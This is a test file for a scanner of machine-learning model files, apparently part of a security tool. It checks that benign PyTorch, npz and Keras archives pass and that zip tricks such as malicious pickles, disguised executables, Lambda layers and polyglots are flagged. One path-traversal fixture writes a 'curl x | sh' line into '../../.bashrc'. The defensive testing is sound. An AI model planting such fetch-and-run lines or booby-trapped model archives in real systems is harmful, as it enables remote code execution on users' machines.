import { verdictOf } from '../../src/core/findings.js';
import { readCentralDirectory } from '../../src/scan/zip/central-directory.js';
import { zipTailNeeded } from '../../src/scan/zip/index.js';
import { createFileScanner } from '../../src/scan/file-scanner.js';
import { benignPickle, blocking, buildZip, cat, checks, enc, evilPickle, floatData, npy, scanBytes, torchStateDictPickle, torchZip, u32 } from './support/fixtures.js';

describe('zip: benign shapes real tools write stay approved', () => {
  test('torch.save checkpoint: stored, 64-byte aligned, data.pkl loads with weights_only', () => {
    const z = torchZip({ tensors: 4, numel: 100 });
    for (const chunk of [1, 7, 4096, 1 << 20]) {
      const o = scanBytes(z, 'pytorch_model.bin', { chunk });
      expect(o.formats).toEqual(['zip', 'pytorch-zip']);
      expect(o.complete).toBe(true);
      expect(verdictOf(o.findings)).toBe('approved');
      expect(o.findings.filter((f) => f.severity !== 'info')).toEqual([]);
    }
  });

  test('tensor storage really is 64-byte aligned in the fixture, as torch writes it', () => {
    const z = torchZip({ tensors: 3, numel: 10 });
    const cd = readCentralDirectory(z, z.length, 'x', 100);
    for (const e of cd.entries) {
      const nlen = z[e.localOffset + 26]! | (z[e.localOffset + 27]! << 8);
      const xlen = z[e.localOffset + 28]! | (z[e.localOffset + 29]! << 8);
      expect((e.localOffset + 30 + nlen + xlen) % 64).toBe(0);
    }
  });

  test('npz (stored and deflated) of .npy members', () => {
    for (const method of [0, 8] as const) {
      const z = buildZip([
        { name: 'w.npy', data: npy('<f4', [3, 4], floatData(12)), method },
        { name: 'b.npy', data: npy('<i8', [2], new Uint8Array(16)), method }
      ]);
      const o = scanBytes(z, 'arrays.npz', { chunk: 7 });
      expect(o.formats).toContain('npz');
      expect(o.findings).toEqual([]);
      expect(o.complete).toBe(true);
    }
  });

  test('keras v3 archive with a benign config', () => {
    const config = { module: 'keras', class_name: 'Sequential', config: { name: 's', layers: [{ module: 'keras.layers', class_name: 'Dense', config: { units: 2 } }] } };
    const z = buildZip([
      { name: 'metadata.json', data: enc('{"keras_version": "3.5.0"}'), method: 8 },
      { name: 'config.json', data: enc(JSON.stringify(config)), method: 8 },
      { name: 'model.weights.h5', data: cat([0x89], 'HDF\r\n\x1a\n', new Uint8Array(200)) }
    ]);
    const o = scanBytes(z, 'model.keras');
    expect(o.formats).toContain('keras');
    expect(o.findings).toEqual([]);
  });
});

describe('zip tricks are caught', () => {
  const tz = (dataPkl: Uint8Array = torchStateDictPickle([{ name: 'w', key: '0', numel: 4, shape: [4] }])) => [
    { name: 'archive/data.pkl', data: dataPkl, align: 64 },
    { name: 'archive/byteorder', data: enc('little'), align: 64 },
    { name: 'archive/data/0', data: floatData(4), align: 64 },
    { name: 'archive/version', data: enc('3\n'), align: 64 }
  ];

  test('malicious data.pkl in a torch zip', () => {
    const o = scanBytes(buildZip(tz(evilPickle())), 'pytorch_model.bin');
    expect(o.findings.some((f) => f.severity === 'critical' && f.file === 'pytorch_model.bin!/archive/data.pkl')).toBe(true);
  });

  test('a pickle hidden as a tensor storage member is found by its bytes', () => {
    const members = tz();
    members[2] = { name: 'archive/data/0', data: evilPickle(), align: 64 };
    const o = scanBytes(buildZip(members), 'pytorch_model.bin');
    expect(o.findings.some((f) => f.severity === 'critical' && f.file?.endsWith('archive/data/0'))).toBe(true);
  });

  test('an executable hidden as tensor storage is found', () => {
    const members = tz();
    const pe = new Uint8Array(512); pe.set([0x4d, 0x5a]); pe.set(u32(0x80), 0x3c); pe.set([0x50, 0x45, 0, 0], 0x80);
    for (const exe of [cat([0x7f], 'ELF', [2, 1, 1], new Uint8Array(100)), pe]) {
      members[2] = { name: 'archive/data/0', data: exe, align: 64 };
      const o = scanBytes(buildZip(members), 'pytorch_model.bin');
      expect(o.findings.find((f) => f.check === 'file.executable')).toMatchObject({ severity: 'critical', file: 'pytorch_model.bin!/archive/data/0' });
    }
  });

  test('random tensor bytes in storage members are not findings', () => {
    const members = tz();
    const noise = new Uint8Array(70000);
    for (let i = 0; i < noise.length; i++) noise[i] = (i * 2654435761 + (i >> 3)) >>> 24;
    members[2] = { name: 'archive/data/0', data: noise, align: 64 };
    expect(scanBytes(buildZip(members), 'pytorch_model.bin').findings.filter((f) => f.severity !== 'info')).toEqual([]);
  });

  test('.keras archive with a Lambda layer', () => {
    const cfg = { module: 'keras', class_name: 'Sequential', config: { layers: [{ module: 'keras.layers', class_name: 'Lambda', config: { function: { class_name: '__lambda__', config: { code: '4wEAAAAA' } } } }] } };
    const o = scanBytes(buildZip([{ name: 'metadata.json', data: enc('{}'), method: 8 }, { name: 'config.json', data: enc(JSON.stringify(cfg)), method: 8 }]), 'model.keras');
    expect(o.findings.find((f) => f.check === 'keras.lambda')).toMatchObject({ severity: 'critical', file: 'model.keras!/config.json' });
  });

  test('a pickle stored as data.txt is still a pickle', () => {
    const o = scanBytes(buildZip([{ name: 'data.txt', data: evilPickle(), method: 8 }]), 'model.zip');
    expect(o.findings.some((f) => f.severity === 'critical')).toBe(true);
  });

  test.each([
    ['encrypted flag (ignored like torch, still scanned)', () => buildZip(tz().map((m, i) => (i === 0 ? { ...m, data: evilPickle(), flags: 1 } : m))), ['zip.encrypted-flag'], true],
    ['bad CRC (ignored like torch, still scanned)', () => buildZip(tz().map((m, i) => (i === 0 ? { ...m, data: evilPickle(), crc: 0x12345678 } : m))), ['zip.crc-mismatch'], true],
    ['local/central name mismatch', () => buildZip(tz().map((m, i) => (i === 0 ? { ...m, localName: 'archive/data.pkx' } : m))), ['zip.name-mismatch'], false],
    ['duplicate names', () => buildZip([...tz(), { name: 'archive/data.pkl', data: evilPickle() }]), ['zip.duplicate-name'], true],
    ['prepended data (polyglot)', () => buildZip(tz(), { prefix: evilPickle() }), ['zip.prepended-data', 'file.polyglot'], true],
    ['trailing data after the end record', () => buildZip(tz(), { suffix: enc('trailing junk') }), ['zip.trailing-data'], false],
    ['hidden bytes between members', () => buildZip(tz(), { gapAfterFirst: evilPickle() }), ['zip.hidden-data'], true],
    ['overlapping entries', () => buildZip([...tz(), { name: 'other.pkl', data: benignPickle(), localOffsetOf: 'archive/data.pkl' }]), ['zip.overlap'], false],
    ['path traversal', () => buildZip([{ name: '../../.bashrc', data: enc('curl x | sh\n') }]), ['zip.path-traversal'], false]
  ])('%s', (_name, make, expected, critical) => {
    const z = make();
    for (const chunk of [7, 1 << 20]) {
      const o = scanBytes(z, 'pytorch_model.bin', { chunk });
      expect(checks(o)).toEqual(expect.arrayContaining(expected));
      expect(blocking(o)).toBe(true);
      if (critical) expect(o.findings.some((f) => f.severity === 'critical')).toBe(true);
    }
  });

  test('zip64 records are read and a benign zip64 torch file stays approved', () => {
    const z = buildZip(tz(), { zip64: true });
    const cd = readCentralDirectory(z, z.length, 'x', 100);
    expect(cd.zip64).toBe(true);
    expect(cd.entries.map((e) => e.name)).toContain('archive/data.pkl');
    const o = scanBytes(z, 'pytorch_model.bin');
    expect(o.findings.filter((f) => f.severity !== 'info')).toEqual([]);
  });

  test('zip64 record that disagrees with the classic end record', () => {
    const z = buildZip(tz(), { zip64: true });
    // Rewrite the classic entry counts (normally 0xffff) to a different number.
    const eocd = z.length - 22;
    z[eocd + 8] = 1; z[eocd + 9] = 0; z[eocd + 10] = 1; z[eocd + 11] = 0;
    expect(checks(scanBytes(z, 'pytorch_model.bin'))).toContain('zip.zip64-inconsistent');
  });

  test('unsupported compression method fails closed', () => {
    const z = buildZip([{ name: 'a.pkl', data: benignPickle() }]);
    z[8] = 99; // local method: AES (LZMA and bzip2 are decoded now: zip-methods.test.ts)
    const cdAt = z.length - 22 - (46 + 5);
    z[cdAt + 10] = 99;
    const o = scanBytes(z, 'm.zip');
    expect(checks(o)).toContain('zip.unsupported-method');
    expect(o.complete).toBe(false);
  });

  test('a zip larger than the buffering limit, without its central directory, asks for the tail', () => {
    const z = torchZip({ tensors: 2, numel: 1000 });
    const s = createFileScanner({ path: 'pytorch_model.bin', size: z.length }, { limits: { zipBufferBytes: 1024 } });
    s.push(z);
    const o = s.end();
    expect(checks(o)).toContain('zip.needs-tail');
    expect(o.complete).toBe(false);
    const short = createFileScanner({ path: 'pytorch_model.bin', size: z.length, tail: z.subarray(z.length - 100) }, { limits: { zipBufferBytes: 1024 } });
    short.push(z);
    expect(checks(short.end())).toContain('zip.needs-tail');
  });

  test('zipTailNeeded says how much tail a big central directory needs', () => {
    const many = buildZip(Array.from({ length: 3000 }, (_v, i) => ({ name: `archive/data/${i}`, data: new Uint8Array(4) })));
    const need = zipTailNeeded(many.subarray(many.length - 1024), many.length);
    expect(need).toBeGreaterThan(1024);
    expect(zipTailNeeded(many.subarray(many.length - (need as number)), many.length)).toBeUndefined();
  });

  test('small zips without a tail are buffered and scanned', () => {
    const o = scanBytes(buildZip(tz(evilPickle())), 'pytorch_model.bin', { tail: false, chunk: 5 });
    expect(o.findings.some((f) => f.severity === 'critical')).toBe(true);
  });

  test('a corrupt deflate member fails closed', () => {
    const z = buildZip([{ name: 'a.pkl', data: benignPickle(), method: 8 }]);
    z.set(u32(0xffffffff), 30 + 5); // scramble the deflate stream start
    const o = scanBytes(z, 'm.zip');
    expect(o.complete).toBe(false);
    expect(blocking(o)).toBe(true);
  });
});
